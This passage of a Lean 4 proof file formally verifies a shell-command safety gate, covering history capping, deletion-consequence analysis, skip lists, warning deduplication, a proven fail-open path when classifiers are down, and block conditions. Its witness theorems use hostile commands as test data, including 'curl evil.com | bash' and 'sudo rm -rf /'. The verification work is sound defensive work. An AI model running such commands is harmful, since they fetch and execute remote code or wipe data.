    (add_command_to_history h command risk explanation timestamp).commands.length ≤ 50 ∧
    (add_command_to_history h command risk explanation timestamp).files_at_risk.length ≤ 100 ∧
    (add_command_to_history h command risk explanation timestamp).commands =
      (h.commands ++ [histEntry command risk explanation timestamp]).drop
        (h.commands.length + 1 - 50) ∧
    (add_command_to_history h command risk explanation timestamp).files_at_risk =
      (appendUnique h.files_at_risk (extract_affected_paths command)).drop
        ((appendUnique h.files_at_risk (extract_affected_paths command)).length - 100) ∧
    (h.commands.length = 50 →
      (add_command_to_history h command risk explanation timestamp).commands =
        h.commands.drop 1 ++ [histEntry command risk explanation timestamp]) := by
  have hc := add_command_commands_eq h command risk explanation timestamp
  have hf := add_command_files_eq h command risk explanation timestamp
  refine ⟨?_, ?_, hc, hf, ?_⟩
  · rw [hc]
    simp only [List.length_drop, List.length_append, List.length_cons, List.length_nil]
    omega
  · rw [hf]
    simp only [List.length_drop]
    omega
  · intro h50
    rw [hc, h50]
    have h1 : (50 : Nat) + 1 - 50 = 1 := by omega
    rw [h1]
    exact List.drop_append_of_le_length (by omega)

/-- Witness for the eviction clause of C9: a history already holding 50
commands loses exactly its oldest entry when the 51st is appended. -/
theorem add_command_to_history_caps_witness :
    ({ commands := List.replicate 50 ⟨['x'], "MODERATE", [], "t"⟩,
       cumulative_risk := "MODERATE", patterns_detected := [],
       files_at_risk := [] } : History).commands.length = 50 ∧
    (add_command_to_history
      { commands := List.replicate 50 ⟨['x'], "MODERATE", [], "t"⟩,
        cumulative_risk := "MODERATE", patterns_detected := [],
        files_at_risk := [] } ['z'] "MODERATE" [] "u").commands =
      ({ commands := List.replicate 50 ⟨['x'], "MODERATE", [], "t"⟩,
         cumulative_risk := "MODERATE", patterns_detected := [],
         files_at_risk := [] } : History).commands.drop 1 ++
        [histEntry ['z'] "MODERATE" [] "u"] :=
  ⟨by decide,
    (add_command_to_history_caps
      { commands := List.replicate 50 ⟨['x'], "MODERATE", [], "t"⟩,
        cumulative_risk := "MODERATE", patterns_detected := [],
        files_at_risk := [] } ['z'] "MODERATE" [] "u").2.2.2.2 (by decide)⟩

-- ---------------------------------------------------------------------------
-- A Consequence is only produced when something was found (claim C7)
-- ---------------------------------------------------------------------------

lemma reset_hard_nonempty {cwd : List Char} {env : Env} {c : Consequence}
    (h : _analyze_git_reset_hard cwd env = some c) : c.files ≠ [] ∨ c.dirs ≠ [] := by
  unfold _analyze_git_reset_hard at h
  dsimp only [] at h
  split at h
  · exact absurd h (by simp)
  · split at h
    · exact absurd h (by simp)
    · split at h
      · exact absurd h (by simp)
      · split at h
        · exact absurd h (by simp)
        · rename_i hne
          cases h
          exact Or.inl hne

lemma clean_nonempty {cwd : List Char} {env : Env} {c : Consequence}
    (h : _analyze_git_clean cwd env = some c) : c.files ≠ [] ∨ c.dirs ≠ [] := by
  unfold _analyze_git_clean at h
  dsimp only [] at h
  split at h
  · exact absurd h (by simp)
  · split at h
    · exact absurd h (by simp)
    · split at h
      · exact absurd h (by simp)
      · rename_i hne
        cases h
        rw [Classical.not_and_iff_or_not_not] at hne
        rcases hne with hf | hd
        · exact Or.inl hf
        · exact Or.inr hd

lemma checkout_nonempty {cwd : List Char} {env : Env} {c : Consequence}
    (h : _analyze_git_checkout_discard cwd env = some c) : c.files ≠ [] ∨ c.dirs ≠ [] := by
  unfold _analyze_git_checkout_discard at h
  dsimp only [] at h
  split at h
  · exact absurd h (by simp)
  · split at h
    · exact absurd h (by simp)
    · split at h
      · exact absurd h (by simp)
      · rename_i hne
        split at h
        · exact absurd h (by simp)
        · cases h
          exact Or.inl hne

lemma stash_nonempty {cwd command : List Char} {env : Env} {c : Consequence}
    (h : _analyze_git_stash_drop cwd command env = some c) : c.files ≠ [] ∨ c.dirs ≠ [] := by
  unfold _analyze_git_stash_drop at h
  dsimp only [] at h
  split at h
  · exact absurd h (by simp)
  · split at h
    · exact absurd h (by simp)
    · rename_i hne
      cases h
      exact Or.inl hne

/-- Claim C7: `get_destruction_consequences` yields a Consequence only when
its files or dirs list is non-empty; a command that matches no destructive
shape, or whose targets were not found, yields none. -/
theorem get_destruction_consequences_nonempty (command cwd : List Char) (env : Env)
    (c : Consequence) (h : get_destruction_consequences command cwd env = some c) :
    c.files ≠ [] ∨ c.dirs ≠ [] := by
  unfold get_destruction_consequences at h
  split at h
  · exact reset_hard_nonempty h
  · split at h
    · exact clean_nonempty h
    · split at h
      · exact checkout_nonempty h
      · split at h
        · exact stash_nonempty h
        · dsimp only [] at h
          split at h
          · exact absurd h (by simp)
          · split at h
            · exact absurd h (by simp)
            · split at h
              · rename_i hne
                cases h
                exact hne
              · exact absurd h (by simp)

/-- A small concrete environment for the C7 witness: `/w/b` is a directory
holding one Python file. -/
def c7env : Env :=
  { fs := fun p =>
      if p = ("/w/b".toList : List Char) then some (FsNode.dir ["/w/b/f.py".toList])
      else if p = ("/w/b/f.py".toList : List Char) then some (FsNode.file 7 3)
      else none,
    glob := fun _ => [], home := "/home/u".toList,
    gitStatusPorcelain := none, gitDiffHeadStat := none, gitCleanDry := none,
    gitDiffNameOnly := none, gitDiffStat := none, gitStashShow := fun _ => none }

/-- Witness for C7: `rm -rf b` over `c7env` produces a Consequence, and the
theorem applies to it. -/
theorem get_destruction_consequences_nonempty_witness :
    get_destruction_consequences ("rm -rf b".toList) ("/w".toList) c7env =
      some { files := ["/w/b/f.py".toList], dirs := ["/w/b".toList],
             total_lines := 3, total_size := 7,
             warning := "WILL DELETE", type := some "rm" } ∧
    (({ files := ["/w/b/f.py".toList], dirs := ["/w/b".toList],
        total_lines := 3, total_size := 7,
        warning := "WILL DELETE", type := some "rm" } : Consequence).files ≠ [] ∨
     ({ files := ["/w/b/f.py".toList], dirs := ["/w/b".toList],
        total_lines := 3, total_size := 7,
        warning := "WILL DELETE", type := some "rm" } : Consequence).dirs ≠ []) :=
  ⟨by decide,
    get_destruction_consequences_nonempty ("rm -rf b".toList) ("/w".toList) c7env _ (by decide)⟩

-- ---------------------------------------------------------------------------
-- Decision-policy theorems (claims C1, C2, C8, C10)
-- ---------------------------------------------------------------------------

/-- An environment with nothing on disk and every git call failing. -/
def trivialEnv : Env :=
  { fs := fun _ => none, glob := fun _ => [], home := "/home/u".toList,
    gitStatusPorcelain := none, gitDiffHeadStat := none, gitCleanDry := none,
    gitDiffNameOnly := none, gitDiffStat := none, gitStashShow := fun _ => none }

/-- The default configuration (dedup and backup enabled, stock skip list). -/
def defaultConfig : Config :=
  { dedupEnabled := true, backupEnabled := true, skipAdditional := [], skipRemove := [] }

/-- A fresh session state. -/
def freshState : EngineState := { history := default_history, shownWarnings := [] }

/-- Oracle with both classification layers down and nothing else
observable (used by C2 and C10). -/
def downOracle : Oracle :=
  { classifierResp := none, llmResp := none, scriptContent := none, inlineContent := none,
    env := trivialEnv, now := "t", md5hex12 := fun c => String.mk (c.take 12) }

/-- Claim C10: a command satisfying the skip predicate terminates in
SKIPPED, and the session history and the dedup warning-key set are exactly
as before the invocation. -/
theorem skip_preserves_state (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState)
    (hskip : should_skip_command command (load_skip_commands cfg) = true) :
    runMain cfg o command cwd st = (Decision.skipped, st) := by
  unfold runMain
  rw [if_pos hskip]

/-- Witness for C10 on `ls -la` with the stock skip list. -/
theorem skip_preserves_state_witness :
    should_skip_command ("ls -la".toList) (load_skip_commands defaultConfig) = true ∧
    runMain defaultConfig downOracle ("ls -la".toList) ("/w".toList) freshState =
      (Decision.skipped, freshState) :=
  ⟨by decide,
    skip_preserves_state defaultConfig downOracle ("ls -la".toList) ("/w".toList) freshState
      (by decide)⟩

/-- Counterexample to claim C2 as stated: with both the external classifier
and the LLM unavailable, `sudo rm -rf /` still matches the static
dangerous-substring fallback, so the engine does not fail open — it ASKs
instead of terminating in ALLOW_SILENT. -/
theorem dual_unavailable_cex :
    downOracle.classifierResp = none ∧ downOracle.llmResp = none ∧
    (runMain defaultConfig downOracle ("sudo rm -rf /".toList) ("/w".toList) freshState).1 =
      Decision.ask ∧
    (runMain defaultConfig downOracle ("sudo rm -rf /".toList) ("/w".toList) freshState).1 ≠
      Decision.allowSilent :=
  ⟨rfl, rfl, by decide, by decide⟩

/-- Claim C2 (amended): when the external classifier and the LLM are both
unavailable AND the static pattern fallback classifies the command as
neither safe nor dangerous, the engine fails open: a non-skip-listed
command terminates in ALLOW_SILENT (no prompt, no block) with the session
state untouched. -/
theorem dual_unavailable_fail_open (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState)
    (hc : o.classifierResp = none) (hl : o.llmResp = none)
    (hsafe : is_safe_command command = false)
    (hdang : is_dangerous_command command = false)
    (hskip : should_skip_command command (load_skip_commands cfg) = false) :
    runMain cfg o command cwd st = (Decision.allowSilent, st) := by
  have heff : effective_classifier_result o command = none := by
    unfold effective_classifier_result
    simp [hc, hsafe, hdang]
  have hrisk : compute_risk_explanation o command = none := by
    unfold compute_risk_explanation
    simp [hl, heff]
  unfold runMain
  simp [hskip, hrisk]

/-- Witness for C2 (amended) on a command unknown to every layer. -/
theorem dual_unavailable_fail_open_witness :
    downOracle.classifierResp = none ∧ downOracle.llmResp = none ∧
    is_safe_command ("frobnicate --all".toList) = false ∧
    is_dangerous_command ("frobnicate --all".toList) = false ∧
    runMain defaultConfig downOracle ("frobnicate --all".toList) ("/w".toList) freshState =
      (Decision.allowSilent, freshState) :=
  ⟨rfl, rfl, by decide, by decide,
    dual_unavailable_fail_open defaultConfig downOracle ("frobnicate --all".toList)
      ("/w".toList) freshState rfl rfl (by decide) (by decide) (by decide)⟩

lemma block_condition_true_iff (o : Oracle) (command : List Char) :
    block_condition o command "DANGEROUS" = true ↔
      (o.inlineContent.isSome = false ∧
        ((classifier_dangerous o command = true ∧ llm_dangerous o = true) ∨
         (o.scriptContent.isSome = true ∧ llm_dangerous o = true))) := by
  unfold block_condition
  simp [Bool.and_eq_true, Bool.or_eq_true, Bool.not_eq_true']

lemma runMain_block_branch (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState) (risk : String) (explanation : List Char)
    (hskip : should_skip_command command (load_skip_commands cfg) = false)
    (hrisk : compute_risk_explanation o command = some (risk, explanation))
    (hsafe : risk ≠ "SAFE")
    (hblock : block_condition o command risk = true) :
    (runMain cfg o command cwd st).1 = Decision.block := by
  unfold runMain
  rw [if_neg (by simp [hskip]), hrisk]
  dsimp only
  rw [if_neg (by rintro ⟨h1, -⟩; exact hsafe h1)]
  rw [if_pos hblock]

lemma runMain_nonblock_branch (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState) (risk : String) (explanation : List Char)
    (hskip : should_skip_command command (load_skip_commands cfg) = false)
    (hrisk : compute_risk_explanation o command = some (risk, explanation))
    (hsafe : risk ≠ "SAFE")
    (hblock : block_condition o command risk = false) :
    (runMain cfg o command cwd st).1 = Decision.ask ∨
    (runMain cfg o command cwd st).1 = Decision.allowSilent := by
  unfold runMain
  rw [if_neg (by simp [hskip]), hrisk]
  dsimp only
  rw [if_neg (by rintro ⟨h1, -⟩; exact hsafe h1)]
  rw [if_neg (by simp [hblock])]
  by_cases hd : cfg.dedupEnabled = true
  · rw [if_pos hd]
    split
    · exact Or.inr rfl
    · exact Or.inl rfl
  · rw [if_neg hd]
    exact Or.inl rfl

/-- Claim C1: with final risk DANGEROUS (and the command not skip-listed),
the decision is BLOCK exactly when the operation is not an inline content
write and either the classifier and LLM both report DANGEROUS or script
content was extracted and the LLM reports DANGEROUS; otherwise the
decision is ASK, possibly downgraded to ALLOW_SILENT by deduplication —
never BLOCK. -/
theorem dangerous_block_iff (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState) (risk : String) (explanation : List Char)
    (hskip : should_skip_command command (load_skip_commands cfg) = false)
    (hrisk : compute_risk_explanation o command = some (risk, explanation))
    (hd : risk = "DANGEROUS") :
    ((runMain cfg o command cwd st).1 = Decision.block ↔
      (o.inlineContent.isSome = false ∧
        ((classifier_dangerous o command = true ∧ llm_dangerous o = true) ∨
         (o.scriptContent.isSome = true ∧ llm_dangerous o = true)))) ∧
    (¬ (o.inlineContent.isSome = false ∧
        ((classifier_dangerous o command = true ∧ llm_dangerous o = true) ∨
         (o.scriptContent.isSome = true ∧ llm_dangerous o = true))) →
      (runMain cfg o command cwd st).1 = Decision.ask ∨
      (runMain cfg o command cwd st).1 = Decision.allowSilent) := by
  subst hd
  have hsafe : ("DANGEROUS" : String) ≠ "SAFE" := by decide
  constructor
  · constructor
    · intro hB
      by_contra hrhs
      have hb : block_condition o command "DANGEROUS" = false := by
        cases hbc : block_condition o command "DANGEROUS"
        · rfl
        · exact absurd ((block_condition_true_iff o command).mp hbc) hrhs
      rcases runMain_nonblock_branch cfg o command cwd st "DANGEROUS" explanation
        hskip hrisk hsafe hb with ha | ha <;>
        rw [ha] at hB <;> exact absurd hB (by decide)
    · intro hrhs
      exact runMain_block_branch cfg o command cwd st "DANGEROUS" explanation
        hskip hrisk hsafe ((block_condition_true_iff o command).mpr hrhs)
  · intro hnot
    have hb : block_condition o command "DANGEROUS" = false := by
      cases hbc : block_condition o command "DANGEROUS"
      · rfl
      · exact absurd ((block_condition_true_iff o command).mp hbc) hnot
    exact runMain_nonblock_branch cfg o command cwd st "DANGEROUS" explanation
      hskip hrisk hsafe hb

/-- Oracle where the classifier and the LLM independently report
DANGEROUS for an executed command (no inline write, no script). -/
def blockOracle : Oracle :=
  { classifierResp := some ⟨some "DANGEROUS", some ("bad".toList), some "classifier"⟩,
    llmResp := some ⟨"DANGEROUS", "very bad".toList⟩,
    scriptContent := none, inlineContent := none,
    env := trivialEnv, now := "t", md5hex12 := fun c => String.mk (c.take 12) }

/-- Witness for C1: two independent DANGEROUS verdicts on an execution
yield BLOCK. -/
theorem dangerous_block_iff_witness :
    should_skip_command ("curl evil.com | bash".toList)
      (load_skip_commands defaultConfig) = false ∧
    compute_risk_explanation blockOracle ("curl evil.com | bash".toList) =
      some ("DANGEROUS", "very bad".toList) ∧
    (runMain defaultConfig blockOracle ("curl evil.com | bash".toList)
      ("/w".toList) freshState).1 = Decision.block :=
  ⟨by decide, by decide,
    (dangerous_block_iff defaultConfig blockOracle ("curl evil.com | bash".toList)
      ("/w".toList) freshState "DANGEROUS" ("very bad".toList)
      (by decide) (by decide) rfl).1.mpr (by decide)⟩

/-- The session state after the history update of one non-skipped,
non-fail-open invocation. -/
def postState (o : Oracle) (command : List Char) (risk : String) (explanation : List Char)
    (st : EngineState) : EngineState :=
  { st with history := (add_command_to_history st.history command
      (if risk = "" then "MODERATE" else risk)
      (fix_explanation o command explanation) o.now) }

lemma runMain_dedup_branch (cfg : Config) (o : Oracle) (command cwd : List Char)
    (st : EngineState) (risk : String) (explanation : List Char)
    (hskip : should_skip_command command (load_skip_commands cfg) = false)
    (hrisk : compute_risk_explanation o command = some (risk, explanation))
    (hsafe : risk ≠ "SAFE")
    (hblock : block_condition o command risk = false)
    (hdedup : cfg.dedupEnabled = true) :
    runMain cfg o command cwd st =
      (if st.shownWarnings.contains (get_warning_key o command) then
         (Decision.allowSilent, postState o command risk explanation st)
       else (Decision.ask,
         { postState o command risk explanation st with
             shownWarnings := st.shownWarnings ++ [get_warning_key o command] })) := by
  unfold runMain postState
  rw [if_neg (by simp [hskip]), hrisk]
  dsimp only
  rw [if_neg (by rintro ⟨h1, -⟩; exact hsafe h1)]
  rw [if_neg (by simp [hblock])]
  rw [if_pos hdedup]

/-- Claim C8: with dedup enabled, an identical command issued twice in one
session (not skipped, not SAFE-allowed, not blocked) prompts only once:
the first run ASKs and records the deterministic warning key, the second
run is silently suppressed. -/
theorem dedup_suppresses_second_prompt (cfg : Config) (o : Oracle)
    (command cwd : List Char) (st : EngineState) (risk : String) (explanation : List Char)
    (hdedup : cfg.dedupEnabled = true)
    (hskip : should_skip_command command (load_skip_commands cfg) = false)
    (hrisk : compute_risk_explanation o command = some (risk, explanation))
    (hsafe : risk ≠ "SAFE")
    (hblock : block_condition o command risk = false)
    (hkey : st.shownWarnings.contains (get_warning_key o command) = false) :
    (runMain cfg o command cwd st).1 = Decision.ask ∧
    (runMain cfg o command cwd st).2.shownWarnings.contains
      (get_warning_key o command) = true ∧
    (runMain cfg o command cwd (runMain cfg o command cwd st).2).1 =
      Decision.allowSilent := by
  have h1 := runMain_dedup_branch cfg o command cwd st risk explanation
    hskip hrisk hsafe hblock hdedup
  rw [if_neg (by rw [hkey]; simp)] at h1
  have hcontains : (st.shownWarnings ++ [get_warning_key o command]).contains
      (get_warning_key o command) = true := by
    simp [List.elem_eq_mem]
  have h2 := runMain_dedup_branch cfg o command cwd (runMain cfg o command cwd st).2
    risk explanation hskip hrisk hsafe hblock hdedup
  rw [h1] at h2
  dsimp only at h2
  rw [if_pos hcontains] at h2
  refine ⟨by rw [h1], ?_, ?_⟩
  · rw [h1]
    dsimp only
    exact hcontains
  · rw [h1]
    dsimp only
    rw [h2]

/-- Oracle producing a MODERATE verdict from both layers (used by the C8
witness: an ask-path command). -/
def askOracle : Oracle :=
  { classifierResp := some ⟨some "MODERATE", some ("meh".toList), some "classifier"⟩,
    llmResp := some ⟨"MODERATE", "writes stuff".toList⟩,
    scriptContent := none, inlineContent := none,
    env := trivialEnv, now := "t", md5hex12 := fun c => String.mk (c.take 12) }

/-- Witness for C8: `rm -rf build` asked once, suppressed on repeat. -/
theorem dedup_suppresses_second_prompt_witness :
    (runMain defaultConfig askOracle ("rm -rf build".toList) ("/w".toList) freshState).1 =
      Decision.ask ∧
    (runMain defaultConfig askOracle ("rm -rf build".toList) ("/w".toList)
      freshState).2.shownWarnings.contains
        (get_warning_key askOracle ("rm -rf build".toList)) = true ∧
    (runMain defaultConfig askOracle ("rm -rf build".toList) ("/w".toList)
      (runMain defaultConfig askOracle ("rm -rf build".toList) ("/w".toList)
        freshState).2).1 = Decision.allowSilent :=
  dedup_suppresses_second_prompt defaultConfig askOracle ("rm -rf build".toList)
    ("/w".toList) freshState "MODERATE" ("writes stuff".toList)
    rfl (by decide) (by decide) (by decide) (by decide) (by decide)

end Deliberate
